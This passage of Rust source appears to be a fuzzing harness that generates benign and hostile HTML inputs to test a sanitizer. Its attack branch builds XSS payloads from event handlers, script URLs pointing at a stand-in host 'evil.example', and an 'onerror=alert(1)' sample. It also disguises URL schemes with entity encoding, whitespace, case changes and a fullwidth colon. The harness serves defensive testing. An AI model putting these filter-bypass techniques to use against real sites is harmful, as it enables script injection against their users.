            writeln!(f, "{payload:?}")?;
        }
        f.debug_struct("CanvasInput")
            .field("level", &self.level)
            .field("doc", &self.doc)
            .finish()
    }
}

trait FloorBoundary {
    fn floor_char_boundary_compat(&self, i: usize) -> usize;
}

impl FloorBoundary for String {
    fn floor_char_boundary_compat(&self, mut i: usize) -> usize {
        while !self.is_char_boundary(i) {
            i -= 1;
        }
        i
    }
}

const WORDS: &[&str] = &[
    "Revenue",
    "Q3",
    "growth",
    "12.5%",
    "users",
    "report",
    "summary",
    "North",
    "South",
    "total",
    "café",
    "naïve",
    "日本語",
    "données",
    "2026-01-01",
    "€ 1,200",
    "résumé",
    "x < y",
    "a & b",
    "\"quoted\"",
    "it's",
    "→",
];

fn word(i: u8) -> &'static str {
    WORDS[usize::from(i) % WORDS.len()]
}

fn table<'t>(t: &[&'t str], i: u8) -> &'t str {
    t[usize::from(i) % t.len()]
}

impl CanvasInput {
    /// A case from its parts.
    pub fn new(level: Level, doc: Doc) -> CanvasInput {
        CanvasInput { level, doc }
    }

    /// The document text.
    pub fn payload(&self) -> String {
        let mut out = String::new();
        match &self.doc {
            Doc::Attack(tokens) => render_tokens(tokens, &mut out),
            Doc::Benign(blocks) => blocks.iter().for_each(|b| b.render(&mut out)),
            Doc::Mixed(blocks, tokens) => {
                let mut t = tokens.iter();
                for b in blocks {
                    b.render(&mut out);
                    if let Some(tok) = t.next() {
                        render_tokens(std::slice::from_ref(tok), &mut out);
                    }
                }
                render_tokens(&t.cloned().collect::<Vec<_>>(), &mut out);
            }
            Doc::Deep { tag, depth, inner } => {
                let n = match *depth {
                    DepthPick::AroundCap(o) => {
                        (MAX_DEPTH as i64 + i64::from(o.rem_euclid(9)) - 4) as usize
                    }
                    DepthPick::PastBrowser(o) => 513 + usize::from(o),
                    DepthPick::Small(d) => usize::from(d % 32),
                };
                let tag = table(NESTING, *tag);
                for _ in 0..n {
                    out.push('<');
                    out.push_str(tag);
                    out.push('>');
                }
                out.push_str(table(SNIPPETS, *inner));
            }
            Doc::Oversize(delta) => {
                let target = (MAX_INPUT_LEN as i64 + i64::from(*delta)) as usize;
                let unit = "<p>canvas <b>row</b></p>";
                while out.len() + unit.len() <= target {
                    out.push_str(unit);
                }
                while out.len() < target {
                    out.push('x');
                }
            }
            Doc::Free(s) => out.push_str(s),
        }
        out
    }

    /// Whether the whole document comes from the benign grammar (so the
    /// preservation oracle applies at `Markup`).
    pub fn is_benign(&self) -> bool {
        matches!(self.doc, Doc::Benign(_))
    }
}

fn render_tokens(tokens: &[Token], out: &mut String) {
    // Open contexts: where each started in `out`, for escaping srcdoc.
    let mut open: Vec<(Context, usize)> = Vec::new();
    let close = |ctx: Context, start: usize, out: &mut String| {
        if ctx.escapes() {
            let inner = out.split_off(start);
            out.push_str(&inner.replace('&', "&amp;").replace('"', "&quot;"));
        }
        out.push_str(ctx.close());
    };
    for t in tokens {
        match t {
            Token::Open { tag, attrs, end } => {
                out.push('<');
                out.push_str(&tag.from(TAGS));
                for a in attrs {
                    out.push(' ');
                    a.render(out);
                }
                out.push_str(match end {
                    TagEnd::Plain => ">",
                    TagEnd::SelfClosing => "/>",
                    TagEnd::Missing => "",
                    TagEnd::Spaced => " >",
                    TagEnd::Junk => "//>",
                });
            }
            Token::Close(tag) => {
                out.push_str("</");
                out.push_str(&tag.from(TAGS));
                out.push('>');
            }
            Token::Text(p) => out.push_str(match p {
                TextPiece::Word(i) => word(*i),
                TextPiece::Lt => "<",
                TextPiece::Gt => ">",
                TextPiece::Amp => "&",
                TextPiece::EscapedMarkup => "&lt;img src=x onerror=alert(1)&gt;",
                TextPiece::Quotes => "\"'",
                TextPiece::Newline => "\n",
                TextPiece::Nul => "\0",
                TextPiece::EndTagOpen => "</",
                TextPiece::CommentOpen => "<!--",
                TextPiece::CommentClose => "-->",
            }),
            Token::Context(c) => {
                out.push_str(c.open());
                open.push((*c, out.len()));
            }
            Token::EndContext => {
                if let Some((c, start)) = open.pop() {
                    close(c, start, out);
                }
            }
            Token::Snippet(i) => out.push_str(table(SNIPPETS, *i)),
            Token::Free(s) => out.push_str(s),
        }
    }
    while let Some((c, start)) = open.pop() {
        close(c, start, out);
    }
}

impl Attr {
    fn render(&self, out: &mut String) {
        out.push_str(&match self.name {
            AttrName::Handler(p) => p.from(EVENT_HANDLERS),
            AttrName::Url(p) => p.from(URL_ATTRIBUTES),
            AttrName::Other(p) => p.from(OTHER_ATTRIBUTES),
        });
        let value = match &self.value {
            Value::Bare => return,
            Value::Url {
                scheme,
                mime,
                base64,
                body,
                obfuscations,
            } => {
                let scheme = scheme.from(SCHEMES);
                let mut url = format!("{scheme}:");
                if scheme.eq_ignore_ascii_case("data") {
                    url.push_str(table(DATA_TYPES, *mime));
                    if *base64 {
                        url.push_str(";base64");
                    }
                    url.push(',');
                }
                url.push_str(&match body {
                    UrlBody::Script(i) => table(SCRIPTS, *i).to_owned(),
                    UrlBody::Host => "//evil.example/x".to_owned(),
                    UrlBody::Path => "x.png".to_owned(),
                    UrlBody::Data => "iVBORw0KGgo=".to_owned(),
                });
                obfuscate(&url, scheme.len(), obfuscations)
            }
            Value::Script(i) => table(SCRIPTS, *i).to_owned(),
            Value::Clobber(i) => table(CLOBBER_NAMES, *i).to_owned(),
            Value::Css(i) => table(CSS, *i).to_owned(),
            Value::Word(i) => word(*i).to_owned(),
            Value::Markup(i) => table(SNIPPETS, *i).to_owned(),
            Value::Empty => String::new(),
            Value::Free(s) => s.clone(),
        };
        match self.quote {
            Quote::Double => {
                out.push_str("=\"");
                out.push_str(&value.replace('"', "&quot;"));
                out.push('"');
            }
            Quote::Single => {
                out.push_str("='");
                out.push_str(&value.replace('\'', "&#39;"));
                out.push('\'');
            }
            Quote::None => {
                out.push('=');
                out.push_str(&value);
            }
            Quote::Backtick => {
                out.push_str("=`");
                out.push_str(&value);
                out.push('`');
            }
            Quote::Unterminated => {
                out.push_str("=\"");
                out.push_str(&value);
            }
            Quote::Spaced => {
                out.push_str(" = \"");
                out.push_str(&value.replace('"', "&quot;"));
                out.push('"');
            }
        }
    }
}

/// Apply the obfuscations to a URL whose scheme is `scheme_len` bytes (the
/// result is attribute-value text: entities are decoded by the parser).
fn obfuscate(url: &str, scheme_len: usize, obfuscations: &[Obfuscation]) -> String {
    // Work on a list of pieces, one per original character, so positions
    // stay meaningful after earlier edits.
    let mut pieces: Vec<String> = url.chars().map(String::from).collect();
    let scheme_chars = url[..scheme_len.min(url.len())].chars().count();
    let pos = |at: u8, n: usize| usize::from(at) % n.max(1);
    for o in obfuscations.iter().take(8) {
        let n = pieces.len();
        match *o {
            Obfuscation::Decimal {
                at,
                semicolon,
                zeros,
            } => {
                let i = pos(at, scheme_chars + 1);
                if let Some(c) = pieces[i].chars().next().filter(|_| pieces[i].len() == 1) {
                    pieces[i] = format!(
                        "&#{}{}{}",
                        "0".repeat(usize::from(zeros % 8)),
                        u32::from(c),
                        if semicolon { ";" } else { "" }
                    );
                }
            }
            Obfuscation::Hex {
                at,
                semicolon,
                upper,
            } => {
                let i = pos(at, scheme_chars + 1);
                if let Some(c) = pieces[i].chars().next().filter(|_| pieces[i].len() == 1) {
                    pieces[i] = format!(
                        "&#{}{:x}{}",
                        if upper { "X" } else { "x" },
                        u32::from(c),
                        if semicolon { ";" } else { "" }
                    );
                }
            }
            Obfuscation::Named => {
                if scheme_chars < n && pieces[scheme_chars] == ":" {
                    pieces[scheme_chars] = "&colon;".to_owned();
                }
            }
            Obfuscation::Whitespace { at, which, entity } => {
                let i = pos(at, scheme_chars + 1);
                let c = which.char();
                let ins = if entity {
                    format!("&#{};", u32::from(c))
                } else {
                    c.to_string()
                };
                pieces[i].insert_str(0, &ins);
            }
            Obfuscation::Leading(which, k) => {
                let pad: String =
                    std::iter::repeat_n(which.char(), usize::from(k % 4) + 1).collect();
                pieces[0].insert_str(0, &pad);
            }
            Obfuscation::Trailing(which, k) => {
                let pad: String =
                    std::iter::repeat_n(which.char(), usize::from(k % 4) + 1).collect();
                pieces[n - 1].push_str(&pad);
            }
            Obfuscation::Case => {
                for (i, p) in pieces.iter_mut().take(scheme_chars).enumerate() {
                    if i % 2 == 0 && p.len() == 1 {
                        *p = p.to_ascii_uppercase();
                    }
                }
            }
            Obfuscation::FullwidthColon => {
                if scheme_chars < n && pieces[scheme_chars] == ":" {
                    pieces[scheme_chars] = "\u{ff1a}".to_owned();
                }
            }
        }
    }
    pieces.concat()
}

impl Benign {
    fn render(&self, out: &mut String) {
        match self {
            Benign::Heading(level, w) => {
                let n = level % 6 + 1;
                out.push_str(&format!("<h{n}>{}</h{n}>\n", esc(word(*w))));
            }
            Benign::Paragraph(runs) => {
                out.push_str("<p>");
                inline(runs, out);
                out.push_str("</p>\n");
            }
            Benign::List(ordered, items) => {
                let tag = if *ordered { "ol" } else { "ul" };
                out.push_str(&format!("<{tag}>\n"));
                for item in items {
                    out.push_str("<li>");
                    inline(item, out);
                    out.push_str("</li>\n");
                }
                out.push_str(&format!("</{tag}>\n"));
            }
            Benign::Table(caption, cols, cells) => {
                let cols = usize::from(cols % 5) + 1;
                out.push_str(&format!(
                    "<table>\n<caption>{}</caption>\n<thead><tr>",
                    esc(word(*caption))
                ));
                for c in 0..cols {
                    out.push_str(&format!("<th scope=\"col\">col {c}</th>"));
                }
                out.push_str("</tr></thead>\n<tbody>\n");
                for row in cells.chunks(cols) {
                    out.push_str("<tr>");
                    for c in row {
                        out.push_str(&format!("<td>{}</td>", esc(word(*c))));
                    }
                    out.push_str("</tr>\n");
                }
                out.push_str("</tbody>\n</table>\n");
            }
            Benign::Figure(src, caption) => {
                let src = match src % 3 {
                    0 => "https://cdn.example.com/chart.png",
                    1 => "images/chart-q3.png",
                    _ => "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==",
                };
                out.push_str(&format!(
                    "<figure><img src=\"{src}\" alt=\"chart\" width=\"320\" height=\"200\"><figcaption>{}</figcaption></figure>\n",
                    esc(word(*caption))
                ));
            }
            Benign::Details(summary, body) => {
                out.push_str(&format!(
                    "<details><summary>{}</summary><p>",
                    esc(word(*summary))
                ));
                inline(body, out);
                out.push_str("</p></details>\n");
            }
            Benign::Form(name, fields) => {
                out.push_str(&format!(
                    "<form action=\"https://forms.example.com/submit\" method=\"post\" name=\"f{name}\">\n"
                ));
                for (i, f) in fields.iter().take(8).enumerate() {
                    match f % 5 {
                        0 => out.push_str(&format!(
                            "<label for=\"in{i}\">{}</label> <input id=\"in{i}\" name=\"in{i}\" type=\"text\" placeholder=\"{}\">\n",
                            esc(word(*f)),
                            esc(word(f / 3))
                        )),
                        1 => out.push_str(&format!(
                            "<label><input type=\"checkbox\" name=\"c{i}\" value=\"yes\"> {}</label>\n",
                            esc(word(*f))
                        )),
                        2 => out.push_str(&format!(
                            "<select name=\"s{i}\"><option value=\"a\">{}</option><option value=\"b\" selected>{}</option></select>\n",
                            esc(word(*f)),
                            esc(word(f / 2))
                        )),
                        3 => out.push_str(&format!(
                            "<textarea name=\"t{i}\" rows=\"3\">{}</textarea>\n",
                            esc(word(*f))
                        )),
                        _ => out.push_str(&format!(
                            "<input type=\"number\" name=\"n{i}\" min=\"0\" max=\"10\" step=\"1\" value=\"{}\">\n",
                            f % 10
                        )),
                    }
                }
                out.push_str("<button type=\"submit\">Send</button>\n</form>\n");
            }
            Benign::Code(w) => {
                out.push_str(&format!(
                    "<pre><code>let x = {};\nif x &lt; 3 {{ }}</code></pre>\n",
                    esc(word(*w))
                ));
            }
            Benign::Quote(runs) => {
                out.push_str("<blockquote><p>");
                inline(runs, out);
                out.push_str("</p></blockquote>\n");
            }
            Benign::Rule => out.push_str("<hr>\n"),
        }
    }
}

fn esc(s: &str) -> String {
    s.replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;")
}

fn inline(runs: &[Inline], out: &mut String) {
    for (i, r) in runs.iter().enumerate() {
        if i > 0 {
            out.push(' ');
        }
        match r {
            Inline::Word(w) => out.push_str(&esc(word(*w))),
            Inline::Strong(w) => out.push_str(&format!("<strong>{}</strong>", esc(word(*w)))),
            Inline::Em(w) => out.push_str(&format!("<em>{}</em>", esc(word(*w)))),
            Inline::Code(w) => out.push_str(&format!("<code>{}</code>", esc(word(*w)))),
            Inline::Link(kind, w) => {
                let href = match kind % 4 {
                    0 => "https://example.com/docs?q=1&amp;r=2",
                    1 => "#section-2",
                    2 => "mailto:team@example.com",
                    _ => "../reports/q3.html",
                };
                out.push_str(&format!("<a href=\"{href}\">{}</a>", esc(word(*w))));
            }
            Inline::Break => out.push_str("<br>"),
            Inline::Sup(n) => out.push_str(&format!("<sup>{}</sup>", n % 10)),
        }
    }
}
